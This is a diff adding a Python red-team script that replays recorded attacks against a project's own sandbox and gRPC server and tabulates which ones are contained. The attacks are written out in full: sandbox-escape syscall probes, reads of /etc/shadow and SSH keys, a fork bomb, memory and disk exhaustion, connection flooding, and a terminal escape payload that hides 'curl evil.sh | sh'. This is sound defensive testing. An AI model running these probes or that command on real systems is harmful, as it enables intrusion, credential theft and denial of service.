@@ -1,0 +1,360 @@
+"""Red team: the attacks of the rounds so far (issues 22 and 27), against the real sandbox (bubblewrap,
+seccomp, cgroups, the uid pool) and a real `jitagent serve` on loopback, each printed as contained or
+not, so that the next round starts from this table rather than from scratch.
+
+A sandbox case is a program that prints `BLOCKED <why>` when its attack fails and `ESCAPED <what>` when
+it succeeds; it is contained with BLOCKED and without ESCAPED. A server case checks what the server
+answered and whether it still serves. The models are scripted: what is attacked is the server, not a
+model. Needs root and a working bwrap (install.sh); the sandbox cases say `skipped` without them.
+Exit status 1 when any case is not contained.
+
+Usage: sudo python bench/redteam.py [--only SUBSTRING]
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import io
+import json
+import os
+import resource
+import socket
+import stat
+import subprocess
+import sys
+import tempfile
+import textwrap
+import time
+import uuid
+from collections.abc import Awaitable, Callable
+from dataclasses import dataclass
+from functools import partial
+from pathlib import Path
+
+import grpc
+
+from jitagent.catalog import load_seeds
+from jitagent.client import JitAgentClient
+from jitagent.models.base import CancelToken
+from jitagent.models.scripted import ScriptedModel
+from jitagent.runtime.agent import Runtime
+from jitagent.sandbox import SandboxLimits, Workspace, bwrap_works, sandbox_python
+from jitagent.sandbox_host import is_root
+from jitagent.synthesis.synthesize import SynthesisConfig, Synthesizer
+from jitagent.tasks import Task
+from jitagent.terminal import TerminalConsole, visible
+from jitagent.v1 import jitagent_pb2 as pb
+
+LIMITS = SandboxLimits(wall_s=8, cpu_s=6, memory_mb=256, processes=16)
+PROBE = """
+import ctypes, errno, os, socket
+libc = ctypes.CDLL(None, use_errno=True)
+def call(nr, *args):
+    ctypes.set_errno(0)
+    result = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
+    return ctypes.get_errno() if result == -1 else f'returned {result}'
+"""
+# name, the round that found it, the program (after PROBE)
+PROGRAMS = [
+    ("io_uring_setup (IORING_OP_SOCKET makes any family)", "27", """
+        r = call(425, 8, ctypes.addressof(ctypes.create_string_buffer(120)))
+        print('BLOCKED' if r in (errno.EPERM, errno.ENOSYS) else 'ESCAPED', r)"""),
+    ("sockets: netlink, vsock, packet, alg; socketpair netlink", "22", """
+        made = []
+        for family, kind in ((16, 2), (40, 1), (17, 2), (38, 5)):
+            try:
+                socket.socket(family, kind).close(); made.append(family)
+            except OSError:
+                pass
+        if call(53, 16, 2, 0, 0) != errno.EPERM:
+            made.append('socketpair')
+        print('ESCAPED' if made else 'BLOCKED', made)"""),
+    ("mount, unshare, setns, ptrace, bpf, keyctl, x32", "22", """
+        got = {n: call(*a) for n, a in {'mount': (165, 0, 0, 0, 0, 0), 'unshare': (272, 0x10000000),
+               'setns': (308, -1, 0), 'ptrace': (101, 0xFFFF, 0, 0, 0), 'bpf': (321, 0xFFFF, 0, 0),
+               'keyctl': (250, 0, -4, 0), 'x32 getpid': (0x40000000 | 39,)}.items()}
+        print('BLOCKED' if set(got.values()) == {errno.EPERM} else 'ESCAPED', got)"""),
+    ("the outside network and DNS", "earlier", """
+        try:
+            socket.create_connection(('1.1.1.1', 53), timeout=2); print('ESCAPED tcp')
+        except OSError as exc:
+            print('BLOCKED', exc.errno)
+        try:
+            socket.getaddrinfo('example.com', 80); print('ESCAPED dns')
+        except OSError:
+            pass"""),
+    ("host secrets and writes outside the workspace", "earlier", """
+        leaks = []
+        for path in ('/etc/shadow', '/root/.ssh/id_rsa', '/proc/1/environ'):
+            try:
+                if 'SECRET' in open(path).read() or path == '/etc/shadow':
+                    leaks.append(path)
+            except OSError:
+                pass
+        for path in ('/usr/redteam', '/etc/redteam', '/redteam'):
+            try:
+                open(path, 'w').write('x'); leaks.append(path)
+            except OSError:
+                pass
+        print('ESCAPED' if leaks else 'BLOCKED', leaks)"""),
+    ("disk fill past the workspace cap", "earlier", """
+        try:
+            with open('/tmp/ws/fill', 'wb') as f:
+                for _ in range(200):
+                    f.write(b'x' * (1 << 20))
+            print('ESCAPED wrote 200 MB')
+        except OSError as exc:
+            print('BLOCKED', errno.errorcode[exc.errno])"""),
+    ("memory bomb", "earlier", """
+        try:
+            blocks = [bytearray(64 << 20) for _ in range(16)]; print('ESCAPED 1 GiB held')
+        except MemoryError:
+            print('BLOCKED MemoryError')"""),
+    ("bwrap's init memory (the host's mount table)", "27", """
+        try:
+            heap = [l for l in open('/proc/1/maps') if '[heap]' in l][0].split()[0].split('-')
+            with open('/proc/1/mem', 'rb') as mem:
+                mem.seek(int(heap[0], 16)); data = mem.read(int(heap[1], 16) - int(heap[0], 16))
+            print('ESCAPED read', len(data), 'bytes of its heap')
+        except (OSError, IndexError) as exc:
+            print('BLOCKED', exc)"""),
+]
+
+
+@dataclass
+class Outcome:
+    case: str
+    found_in: str
+    contained: bool | None  # None: skipped
+    detail: str
+
+
+Case = Callable[[], Awaitable[tuple[bool, str]]]
+
+
+def sandbox_case(code: str) -> Case:
+    async def attack() -> tuple[bool, str]:
+        with Workspace() as ws:
+            result = await ws.run([sandbox_python(), "-c", PROBE + textwrap.dedent(code)], LIMITS)
+        out = (result.stdout.strip() or result.describe())[:160]
+        return "BLOCKED" in result.stdout and "ESCAPED" not in result.stdout, out
+    return attack
+
+
+async def fork_bomb() -> tuple[bool, str]:
+    start = time.monotonic()
+    with Workspace() as ws:
+        result = await ws.run(["/bin/sh", "-c", "f() { f | f & }; f"], LIMITS)
+    took = time.monotonic() - start
+    how = "killed" if result.timed_out else "exited"
+    return took < LIMITS.wall_s + 5, f"ended after {took:.1f} s ({how}); its cgroup swept"
+
+
+async def huge_output() -> tuple[bool, str]:
+    with Workspace() as ws:
+        result = await ws.run([sandbox_python(), "-c", "import sys\nfor _ in range(1024):\n"
+                               "    sys.stdout.write('x' * (1 << 20))"], LIMITS)
+    return len(result.stdout) <= LIMITS.output_bytes, f"{len(result.stdout):,} characters kept of 1 GiB"
+
+
+async def check_past_budget() -> tuple[bool, str]:
+    task = Task(id="t", prompt="Say anything.", verifier={"kind": "shell_check", "command": "sleep 20"})
+    start = time.monotonic()
+    await Runtime(ScriptedModel(["Final answer: 5"])).run(load_seeds()["direct"], task,
+                                                          deadline=time.monotonic() + 3)
+    took = time.monotonic() - start
+    return took <= 5, f"budget 3 s, a check that sleeps 20 s: ended at {took:.1f} s"
+
+
+async def smoke_past_budget() -> tuple[bool, str]:
+    data = load_seeds()["direct"].model_dump(mode="json")
+    data["code"] = {"stage": "answer", "source": "import time\n\ndef extract_answer(text):\n"
+                                                 "    time.sleep(20)\n    return text\n"}
+    meta = ScriptedModel([json.dumps({"spec": data})], "scripted-meta")
+    synthesizer = Synthesizer(meta, None, SynthesisConfig(n=3, repair_rounds=0, dry_run=False))
+    start = time.monotonic()
+    await synthesizer.synthesize(Task(id="t", prompt="What is 2 + 2?"), [load_seeds()["direct"]], {},
+                                 cancel=CancelToken(time.monotonic() + 3))
+    took = time.monotonic() - start
+    return took <= 5, f"budget 3 s, 3 candidates with a code section that sleeps 20 s: {took:.1f} s"
+
+
+async def terminal_injection() -> tuple[bool, str]:
+    hostile = "name\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x9b2J\u202e"
+    sink = io.StringIO()
+    TerminalConsole(file=sink, width=200).print(hostile, f"[link=https://evil.example]{hostile}[/link]")
+    shown = sink.getvalue() + visible(hostile)
+    raw = [c for c in "\x1b\x07\x9b\u202e" if c in shown]
+    return not raw, f"raw control characters reaching the terminal: {[hex(ord(c)) for c in raw]}"
+
+
+def huge_integer_spec() -> Case:
+    async def attack() -> tuple[bool, str]:
+        with tempfile.NamedTemporaryFile("w", suffix=".yaml") as spec:
+            spec.write(f"name: x\nlimits:\n  max_steps: {'9' * 10_000}\n")
+            spec.flush()
+            done = subprocess.run([sys.executable, "-m", "jitagent", "validate", spec.name],
+                                  capture_output=True, text=True, timeout=120)
+        lines = done.stderr.strip().splitlines()
+        return done.returncode == 1 and len(lines) == 1, (lines or ["(nothing)"])[-1][:160]
+    return attack
+
+
+class Server:
+    """`jitagent serve` with a token, its HTTP door, a data dir made 0755 beforehand, and 1,024 open files."""
+
+    def __init__(self, root: Path):
+        self.token, self.port, self.http_port = uuid.uuid4().hex, free_port(), free_port()
+        self.data = root / "data"
+        self.data.mkdir(mode=0o755)
+        self.data.chmod(0o755)
+        self.log = root / "server.log"
+        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+        usual = (1024, hard) if hard == resource.RLIM_INFINITY or hard > 1024 else (hard, hard)
+        with open(self.log, "wb") as log:
+            self.proc = subprocess.Popen(
+                [sys.executable, "-m", "jitagent", "serve", "--port", str(self.port), "--openai-port",
+                 str(self.http_port), "--data-dir", str(self.data), "--meta-model", "scripted",
+                 "--no-dry-run", "--n", "1"], env={**os.environ, "JITAGENT_AUTH_TOKEN": self.token},
+                stdout=log, stderr=log,
+                preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, usual))
+
+    def client(self, token: str | None = "") -> JitAgentClient:
+        return JitAgentClient(f"127.0.0.1:{self.port}", token=self.token if token == "" else token)
+
+    async def health(self) -> str:
+        async with self.client() as client:  # a new connection each time
+            try:
+                return await client.health(timeout=5)
+            except grpc.aio.AioRpcError as exc:
+                return exc.code().name
+
+    def stop(self) -> None:
+        self.proc.kill()
+        self.proc.wait()
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+async def rpc_error(call) -> grpc.aio.AioRpcError | None:
+    try:
+        await call
+    except grpc.aio.AioRpcError as exc:
+        return exc
+    return None
+
+
+async def no_token(server: Server) -> tuple[bool, str]:
+    async with server.client(token=None) as client:
+        error = await rpc_error(client.get_harness("x"))
+    code = error.code() if error else None
+    return code == grpc.StatusCode.UNAUTHENTICATED, f"{code and code.name} without a token"
+
+
+async def gym_size(server: Server) -> tuple[bool, str]:
+    gym = pb.ReasoningGymEntry(dataset="chain_sum", seed=1, size=2**63 - 1, index=0)
+    task = pb.Task(prompt="Sum these.", verifier=pb.Verifier(reasoning_gym=gym))
+    start = time.monotonic()
+    async with server.client() as client:
+        call = client.stub.Solve(pb.SolveRequest(task=task), metadata=client.metadata)
+        error = await rpc_error(call.read())
+    took = time.monotonic() - start
+    ok = error is not None and error.code() == grpc.StatusCode.INVALID_ARGUMENT and took < 5
+    return ok, f"{error and error.code().name} in {took:.2f} s: {(error and error.details() or '')[:100]}"
+
+
+async def megabyte_id(server: Server) -> tuple[bool, str]:
+    async with server.client() as client:
+        error = await rpc_error(client.get_harness("h" * (1 << 20)))
+    details = error.details() if error else ""
+    return error is not None and error.code() == grpc.StatusCode.NOT_FOUND and len(details) < 400, \
+        f"{error and error.code().name}, {len(details):,} characters of details"
+
+
+async def idle_http_clients(server: Server) -> tuple[bool, str]:
+    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # this process holds the 2,000
+    held = []
+    for _ in range(2000):
+        sock = socket.socket()
+        sock.setblocking(False)
+        sock.connect_ex(("127.0.0.1", server.http_port))
+        held.append(sock)
+    await asyncio.sleep(2)
+    states = [await server.health() for _ in range(3)]
+    fds = len(os.listdir(f"/proc/{server.proc.pid}/fd"))
+    for sock in held:
+        sock.close()
+    log_mb = server.log.stat().st_size / 1e6
+    return states == ["SERVING"] * 3 and log_mb < 1, \
+        f"health {states}, the server holds {fds} descriptors, log {log_mb:.2f} MB"
+
+
+async def data_dir_mode(server: Server) -> tuple[bool, str]:
+    mode = oct(stat.S_IMODE(server.data.stat().st_mode))
+    return mode == "0o700", f"a data dir made 0755 before the server opened it is {mode}"
+
+
+def server_cases(server: Server) -> list[tuple[str, str, Case]]:
+    return [("no token on gRPC", "earlier", partial(no_token, server)),
+            ("reasoning_gym size 2**63-1", "27", partial(gym_size, server)),
+            ("a 1 MB harness id echoed in the error", "27", partial(megabyte_id, server)),
+            ("2,000 idle HTTP clients without a token", "27", partial(idle_http_clients, server)),
+            ("an existing data dir left 0755", "27", partial(data_dir_mode, server))]
+
+
+async def run_cases(cases: list[tuple[str, str, Case]]) -> list[Outcome]:
+    outcomes = []
+    for name, found_in, attack in cases:
+        try:
+            contained, detail = await attack()
+        except Exception as exc:  # an attack that crashes the harness of this script is not contained
+            contained, detail = False, f"{type(exc).__name__}: {exc}"[:160]
+        outcomes.append(Outcome(name, found_in, contained, detail))
+        print(f"{'contained' if contained else 'NOT CONTAINED'}: {name}", file=sys.stderr, flush=True)
+    return outcomes
+
+
+async def main(only: str) -> list[Outcome]:
+    confined = is_root() and bwrap_works()
+    local = [*((name, found, sandbox_case(code)) for name, found, code in PROGRAMS),
+             ("fork bomb", "earlier", fork_bomb), ("1 GiB of output", "earlier", huge_output)]
+    outcomes = [Outcome(n, f, None, "needs root and bwrap") for n, f, _ in local if only in n] \
+        if not confined else await run_cases([c for c in local if only in c[0]])
+    outcomes += await run_cases([c for c in [
+        ("a task's check past the run's budget", "27", check_past_budget),
+        ("smoke calls of code sections past the budget", "27", smoke_past_budget),
+        ("control characters to the terminal", "27", terminal_injection),
+        ("a 10,000-digit integer in a spec", "27", huge_integer_spec())] if only in c[0]])
+    with tempfile.TemporaryDirectory() as root:
+        server = Server(Path(root))
+        try:
+            async with server.client() as client:
+                await client.wait_ready(300)
+            outcomes += await run_cases([c for c in server_cases(server) if only in c[0]])
+        finally:
+            server.stop()
+    return outcomes
+
+
+def table(outcomes: list[Outcome]) -> str:
+    mark = {True: "contained", False: "**not**", None: "skipped"}
+    rows = [f"| {o.case} | {o.found_in} | {mark[o.contained]} | {o.detail.replace('|', '/')} |"
+            for o in outcomes]
+    missed = sum(o.contained is False for o in outcomes)
+    return "\n".join(["| case | found in issue | outcome | what happened |", "|---|---|---|---|", *rows,
+                      "", f"{len(outcomes)} cases: {sum(o.contained is True for o in outcomes)} contained, "
+                          f"{missed} not, {sum(o.contained is None for o in outcomes)} skipped"])
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--only", default="", help="run the cases whose name holds this")
+    results = asyncio.run(main(parser.parse_args().only))
+    print(table(results))
+    sys.exit(1 if any(o.contained is False for o in results) else 0)
